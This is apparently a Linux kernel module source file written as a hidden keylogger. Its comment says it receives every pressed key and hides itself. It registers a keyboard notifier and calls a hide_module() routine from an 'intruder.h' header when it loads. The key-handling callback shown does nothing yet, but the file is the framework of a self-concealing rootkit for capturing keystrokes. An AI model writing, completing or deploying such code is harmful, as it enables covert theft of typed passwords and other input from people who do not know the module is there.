/* Receives every pressed key from the keyboard notifier list; hides itself. */
#include "intruder.h"
#include <linux/keyboard.h>
#include <linux/notifier.h>

static int pressed(struct notifier_block *block, unsigned long action, void *data) {
    return NOTIFY_OK;
}

static struct notifier_block block = {.notifier_call = pressed};

static int __init begin(void) {
    hide_module();
    return register_keyboard_notifier(&block);
}
module_init(begin);
